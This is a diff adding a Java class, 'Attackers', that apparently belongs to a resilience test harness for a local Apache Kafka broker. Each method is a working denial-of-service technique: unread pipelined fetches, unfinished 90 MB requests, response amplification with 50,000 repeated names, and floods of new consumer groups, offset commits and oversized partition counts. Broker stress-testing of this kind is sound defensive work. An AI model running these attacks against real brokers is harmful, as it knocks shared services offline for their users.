@@ -1,0 +1,356 @@
+package gregor.kafka;
+
+import java.io.IOException;
+import java.net.InetAddress;
+import java.net.InetSocketAddress;
+import java.net.Socket;
+import java.net.StandardSocketOptions;
+import java.nio.ByteBuffer;
+import java.nio.channels.SocketChannel;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.List;
+import java.util.Map;
+import java.util.Random;
+import java.util.function.BooleanSupplier;
+import java.util.stream.Collectors;
+import java.util.stream.IntStream;
+import java.util.stream.Stream;
+import org.apache.kafka.clients.admin.Admin;
+import org.apache.kafka.clients.admin.NewTopic;
+import org.apache.kafka.clients.consumer.OffsetAndMetadata;
+import org.apache.kafka.clients.producer.KafkaProducer;
+import org.apache.kafka.clients.producer.ProducerRecord;
+import org.apache.kafka.common.TopicPartition;
+import org.apache.kafka.common.message.ApiVersionsRequestData;
+import org.apache.kafka.common.message.ConsumerGroupDescribeRequestData;
+import org.apache.kafka.common.message.ConsumerGroupHeartbeatRequestData;
+import org.apache.kafka.common.message.CreatePartitionsRequestData;
+import org.apache.kafka.common.message.CreatePartitionsRequestData.CreatePartitionsTopic;
+import org.apache.kafka.common.message.CreateTopicsRequestData;
+import org.apache.kafka.common.message.CreateTopicsRequestData.CreatableTopic;
+import org.apache.kafka.common.message.DeleteTopicsRequestData;
+import org.apache.kafka.common.message.DescribeConfigsRequestData;
+import org.apache.kafka.common.message.DescribeGroupsRequestData;
+import org.apache.kafka.common.message.DescribeTopicPartitionsRequestData;
+import org.apache.kafka.common.message.FetchRequestData;
+import org.apache.kafka.common.message.JoinGroupRequestData;
+import org.apache.kafka.common.message.JoinGroupRequestData.JoinGroupRequestProtocol;
+import org.apache.kafka.common.message.ListOffsetsRequestData;
+import org.apache.kafka.common.message.MetadataRequestData;
+import org.apache.kafka.common.message.OffsetCommitRequestData;
+import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestPartition;
+import org.apache.kafka.common.message.OffsetCommitRequestData.OffsetCommitRequestTopic;
+import org.apache.kafka.common.message.OffsetFetchRequestData;
+import org.apache.kafka.common.protocol.ApiKeys;
+import org.apache.kafka.common.protocol.ApiMessage;
+import org.apache.kafka.common.serialization.ByteArraySerializer;
+
+/// Clients that try to make a broker unusable for others. Each method is one attack, and ends when it is told to.
+/// Connections that the broker closes are opened again.
+final class Attackers {
+    static final String LARGE = "large-events";
+    private static final String VICTIM = "large-group";
+    private static final int LARGE_RECORDS = 9;
+    private static final int LARGE_PARTITIONS = 100;
+    private static final int MEGABYTE = 1 << 20;
+
+    private final InetSocketAddress broker;
+    private final BooleanSupplier running;
+
+    /// @param running whether the attack goes on
+    Attackers(InetSocketAddress broker, BooleanSupplier running) {
+        this.broker = broker;
+        this.running = running;
+    }
+
+    private interface Exchange {
+        void with(Socket socket) throws IOException;
+    }
+
+    private void again(Exchange exchange) {
+        while (running.getAsBoolean()) {
+            try (var socket = new Socket(broker.getAddress(), broker.getPort())) {
+                socket.setSoTimeout(2_000);
+                exchange.with(socket);
+            } catch (IOException e) {
+                // The broker has closed the connection, or answers slowly; that is what this attack is for.
+            }
+        }
+    }
+
+    private static byte[] sized(byte[] frame) {
+        return ByteBuffer.allocate(Integer.BYTES + frame.length).putInt(frame.length).put(frame).array();
+    }
+
+    private static void send(Socket socket, ApiMessage request, int version) throws IOException {
+        socket.getOutputStream().write(sized(RawClient.body(request, version, 1)));
+    }
+
+    private static void skipAnswer(Socket socket) throws IOException {
+        byte[] size = socket.getInputStream().readNBytes(Integer.BYTES);
+        if (size.length < Integer.BYTES) {
+            throw new IOException("the broker has closed the connection");
+        }
+        socket.getInputStream().skipNBytes(ByteBuffer.wrap(size).getInt());
+    }
+
+    /// Writes the topic that [#fetchWithoutReading] asks for.
+    static void prepare(Map<String, Object> settings) throws Exception {
+        try (Admin admin = Admin.create(settings);
+                var producer = new KafkaProducer<>(settings, new ByteArraySerializer(), new ByteArraySerializer())) {
+            admin.createTopics(List.of(new NewTopic(LARGE, LARGE_PARTITIONS, (short) 1))).all().get();
+            for (int i = 0; i < LARGE_RECORDS; i++) {
+                producer.send(new ProducerRecord<>(LARGE, 0, null, new byte[1_000_000])).get();
+            }
+            producer.send(new ProducerRecord<>(LARGE, 1, null, new byte[10])).get();
+            admin.alterConsumerGroupOffsets(VICTIM, IntStream.range(0, LARGE_PARTITIONS).boxed().collect(
+                    Collectors.toMap(number -> new TopicPartition(LARGE, number),
+                            number -> new OffsetAndMetadata(0, "x".repeat(4_000))))).all().get();
+        }
+    }
+
+    /// Asks on 30 connections for 20 responses of 8 MB each, and reads none.
+    void fetchWithoutReading() throws Exception {
+        var fetch = new FetchRequestData().setMaxBytes(8 * MEGABYTE).setTopics(List.of(new FetchRequestData.FetchTopic()
+                .setTopic(LARGE).setPartitions(List.of(new FetchRequestData.FetchPartition()
+                        .setPartitionMaxBytes(8 * MEGABYTE)))));
+        holdUnread(30, repeated(sized(RawClient.body(fetch, 12, 1)), 20));
+    }
+
+    /// Asks on many connections for responses without an end, and reads none.
+    void pipelineWithoutReading(int connections, ApiMessage request, int version) throws Exception {
+        holdUnread(connections, repeated(sized(RawClient.body(request, version, 1)), 2_000));
+    }
+
+    static ApiMessage allTopics() {
+        return new MetadataRequestData().setTopics(null);
+    }
+
+    static ApiMessage versions() {
+        return new ApiVersionsRequestData();
+    }
+
+    /// Announces requests of 90 MB on some connections, sends nearly all of each, and waits.
+    void sendLargeRequestsWithoutEnd(int connections) throws Exception {
+        int bytes = 90 * MEGABYTE;
+        byte[] part = new byte[MEGABYTE];
+        var open = new ArrayList<SocketChannel>();
+        while (running.getAsBoolean()) {
+            for (int i = open.size(); i < connections; i++) {
+                connect(i).ifPresent(channel -> {
+                    push(channel, ByteBuffer.allocate(Integer.BYTES).putInt(bytes).array());
+                    open.add(channel);
+                });
+            }
+            open.removeIf(channel -> !push(channel, part));
+            Thread.sleep(1);
+        }
+        for (SocketChannel channel : open) {
+            channel.close();
+        }
+    }
+
+    private static byte[] repeated(byte[] bytes, int times) {
+        ByteBuffer all = ByteBuffer.allocate(bytes.length * times);
+        for (int i = 0; i < times; i++) {
+            all.put(bytes);
+        }
+        return all.array();
+    }
+
+    private void holdUnread(int count, byte[] requests) throws Exception {
+        var open = new ArrayList<SocketChannel>();
+        while (running.getAsBoolean()) {
+            for (int i = open.size(); i < count && running.getAsBoolean(); i++) {
+                connect(i).ifPresent(open::add);
+            }
+            for (SocketChannel channel : List.copyOf(open)) {
+                if (!push(channel, requests)) {
+                    channel.close();
+                    open.remove(channel);
+                }
+            }
+            Thread.sleep(50);
+        }
+        for (SocketChannel channel : open) {
+            channel.close();
+        }
+    }
+
+    /// One address may have half of the connections of a broker, so these come from two.
+    private java.util.Optional<SocketChannel> connect(int number) {
+        try {
+            SocketChannel channel = SocketChannel.open();
+            channel.setOption(StandardSocketOptions.SO_RCVBUF, 4096);
+            if (System.getProperty("os.name").equals("Linux")) {
+                channel.bind(new InetSocketAddress(InetAddress.ofLiteral("127.0.0." + (2 + number % 2)), 0));
+            }
+            channel.connect(broker);
+            channel.configureBlocking(false);
+            return java.util.Optional.of(channel);
+        } catch (IOException e) {
+            return java.util.Optional.empty();
+        }
+    }
+
+    private static boolean push(SocketChannel channel, byte[] bytes) {
+        try {
+            channel.write(ByteBuffer.wrap(bytes));
+            return true;
+        } catch (IOException e) {
+            return false;
+        }
+    }
+
+    /// Sends each kind of request with 20,000 equal elements in each of its arrays, and every other time leaves before
+    /// the answer.
+    void repeatElements() {
+        List<byte[]> requests = repeatedElements(new Random(5));
+        var random = new Random();
+        again(socket -> {
+            socket.getOutputStream().write(requests.get(random.nextInt(requests.size())));
+            if (random.nextBoolean()) {
+                skipAnswer(socket);
+            }
+        });
+    }
+
+    private static List<byte[]> repeatedElements(Random random) {
+        var requests = new ArrayList<byte[]>();
+        for (ApiKeys api : SERVED) {
+            var trees = new SchemaRequests(random);
+            int places = SchemaRequests.places(trees.make(api, api.latestVersion())).size();
+            for (int i = 0; i < places; i++) {
+                var tree = trees.make(api, api.latestVersion());
+                List<SchemaRequests.Place> all = SchemaRequests.places(tree);
+                if (i < all.size() && all.get(i).value() instanceof Object[] elements) {
+                    all.get(i).set(SchemaRequests.multiplied(elements, 20_000));
+                    requests.add(sized(tree.frame()));
+                }
+            }
+        }
+        return requests;
+    }
+
+    /// Names a topic, a group or a partition that exists 50,000 times in one request, so that the response would have
+    /// as many copies of what the broker knows of it.
+    void amplify() {
+        List<byte[]> requests = amplified(50_000);
+        var random = new Random();
+        again(socket -> {
+            socket.setSoTimeout(20_000);
+            socket.getOutputStream().write(requests.get(random.nextInt(requests.size())));
+            skipAnswer(socket);
+        });
+    }
+
+    private static List<byte[]> amplified(int times) {
+        var configs = new DescribeConfigsRequestData().setIncludeSynonyms(true).setIncludeDocumentation(true)
+                .setResources(Collections.nCopies(times, new DescribeConfigsRequestData.DescribeConfigsResource()
+                        .setResourceType((byte) 2).setResourceName(LARGE).setConfigurationKeys(null)));
+        var offsets = new OffsetFetchRequestData().setGroups(Collections.nCopies(times,
+                new OffsetFetchRequestData.OffsetFetchRequestGroup().setGroupId(VICTIM).setTopics(null)));
+        var fetch = new FetchRequestData().setMaxBytes(Integer.MAX_VALUE).setTopics(List.of(
+                new FetchRequestData.FetchTopic().setTopic(LARGE).setPartitions(Collections.nCopies(times,
+                        new FetchRequestData.FetchPartition().setPartition(1).setPartitionMaxBytes(1_000)))));
+        var list = new ListOffsetsRequestData().setReplicaId(-1).setTopics(List.of(
+                new ListOffsetsRequestData.ListOffsetsTopic().setName(LARGE).setPartitions(Collections.nCopies(times,
+                        new ListOffsetsRequestData.ListOffsetsPartition().setTimestamp(1)))));
+        List<String> group = Collections.nCopies(times, VICTIM);
+        List<String> topic = Collections.nCopies(times, LARGE);
+        return Stream.of(RawClient.body(configs, 4, 1), RawClient.body(offsets, 8, 1), RawClient.body(fetch, 12, 1),
+                RawClient.body(list, 6, 1), RawClient.body(new DescribeGroupsRequestData().setGroups(group), 5, 1),
+                RawClient.body(new ConsumerGroupDescribeRequestData().setGroupIds(group), 1, 1),
+                RawClient.body(new DescribeTopicPartitionsRequestData().setTopics(topic.stream().map(name ->
+                        new DescribeTopicPartitionsRequestData.TopicRequest().setName(name)).toList()), 0, 1))
+                .map(Attackers::sized).toList();
+    }
+
+    /// The kinds of requests with arrays that a broker reads into objects.
+    static final List<ApiKeys> SERVED = List.of(ApiKeys.METADATA, ApiKeys.CREATE_TOPICS, ApiKeys.CREATE_PARTITIONS,
+            ApiKeys.PRODUCE, ApiKeys.FETCH, ApiKeys.LIST_OFFSETS, ApiKeys.OFFSET_FOR_LEADER_EPOCH, ApiKeys.JOIN_GROUP,
+            ApiKeys.SYNC_GROUP, ApiKeys.LEAVE_GROUP, ApiKeys.HEARTBEAT, ApiKeys.CONSUMER_GROUP_HEARTBEAT,
+            ApiKeys.CONSUMER_GROUP_DESCRIBE, ApiKeys.OFFSET_COMMIT, ApiKeys.OFFSET_FETCH, ApiKeys.OFFSET_DELETE,
+            ApiKeys.DESCRIBE_GROUPS, ApiKeys.LIST_GROUPS, ApiKeys.DELETE_GROUPS, ApiKeys.DELETE_TOPICS,
+            ApiKeys.DELETE_RECORDS, ApiKeys.DESCRIBE_CONFIGS, ApiKeys.ALTER_CONFIGS, ApiKeys.INCREMENTAL_ALTER_CONFIGS,
+            ApiKeys.DESCRIBE_LOG_DIRS, ApiKeys.DESCRIBE_TOPIC_PARTITIONS, ApiKeys.DESCRIBE_CLUSTER,
+            ApiKeys.FIND_COORDINATOR, ApiKeys.INIT_PRODUCER_ID, ApiKeys.API_VERSIONS, ApiKeys.SASL_HANDSHAKE);
+
+    /// Joins ever new groups, under names as long as a request can have.
+    void joinNewGroups() {
+        joinNewGroups(32_000, null, 10);
+    }
+
+    /// Joins ever new groups as a static member, which is a member at once, with 100 kB for the others.
+    void joinNewGroupsAsStaticMember() {
+        joinNewGroups(100, "instance", 100_000);
+    }
+
+    private void joinNewGroups(int nameLength, String instance, int bytes) {
+        var random = new Random();
+        again(socket -> {
+            for (int i = 0; i < 100 && running.getAsBoolean(); i++) {
+                var protocols = new JoinGroupRequestData.JoinGroupRequestProtocolCollection();
+                protocols.add(new JoinGroupRequestProtocol().setName("range").setMetadata(new byte[bytes]));
+                String name = "g".repeat(nameLength) + random.nextLong();
+                send(socket, new JoinGroupRequestData().setGroupId(name.substring(0, Math.min(name.length(), 1_000)))
+                        .setGroupInstanceId(instance).setMemberId("").setSessionTimeoutMs(1_800_000)
+                        .setRebalanceTimeoutMs(1_800_000).setProtocolType("consumer").setProtocols(protocols), 9);
+                skipAnswer(socket);
+            }
+        });
+    }
+
+    /// Joins ever new groups of the newer protocol, in which the broker assigns all partitions of a topic.
+    void joinNewConsumerGroups() {
+        var random = new Random();
+        again(socket -> {
+            for (int i = 0; i < 100 && running.getAsBoolean(); i++) {
+                send(socket, new ConsumerGroupHeartbeatRequestData().setGroupId("c" + random.nextLong())
+                        .setMemberId("m" + random.nextLong()).setMemberEpoch(0).setRebalanceTimeoutMs(60_000)
+                        .setSubscribedTopicNames(List.of(LARGE)).setTopicPartitions(List.of()), 1);
+                skipAnswer(socket);
+            }
+        });
+    }
+
+    /// Commits offsets with long notes for ever new groups.
+    void commitForNewGroups() {
+        var random = new Random();
+        again(socket -> {
+            for (int i = 0; i < 100 && running.getAsBoolean(); i++) {
+                var partitions = IntStream.range(0, 20).mapToObj(number -> new OffsetCommitRequestPartition()
+                        .setPartitionIndex(number).setCommittedOffset(1).setCommittedMetadata("x".repeat(4_096)))
+                        .toList();
+                send(socket, new OffsetCommitRequestData().setGroupId("o" + random.nextLong()).setMemberId("")
+                        .setGenerationIdOrMemberEpoch(-1).setTopics(List.of(new OffsetCommitRequestTopic()
+                                .setName(LARGE).setPartitions(partitions))), 8);
+                skipAnswer(socket);
+            }
+        });
+    }
+
+    /// Creates topics with numbers of partitions that a broken client could send, and some that are allowed.
+    ///
+    /// @param most partitions of the largest topic that is allowed
+    void createPartitions(int most) {
+        List<Integer> counts = List.of(Integer.MAX_VALUE, 1 << 30, 1 << 24, 1_000_000, 100_000, most, 100);
+        again(socket -> {
+            for (int count : counts) {
+                var topics = new CreateTopicsRequestData.CreatableTopicCollection();
+                topics.add(new CreatableTopic().setName("broken-" + count).setNumPartitions(count)
+                        .setReplicationFactor((short) 1));
+                send(socket, new CreateTopicsRequestData().setTopics(topics), 4);
+                var more = new CreatePartitionsRequestData.CreatePartitionsTopicCollection();
+                more.add(new CreatePartitionsTopic().setName("broken-100").setCount(count).setAssignments(null));
+                send(socket, new CreatePartitionsRequestData().setTopics(more), 3);
+                send(socket, new DeleteTopicsRequestData().setTopicNames(List.of("broken-" + count)), 5);
+            }
+            socket.setSoTimeout(60_000);
+            for (int i = 0; i < 3 * counts.size() && running.getAsBoolean(); i++) {
+                skipAnswer(socket);
+            }
+        });
+    }
+}
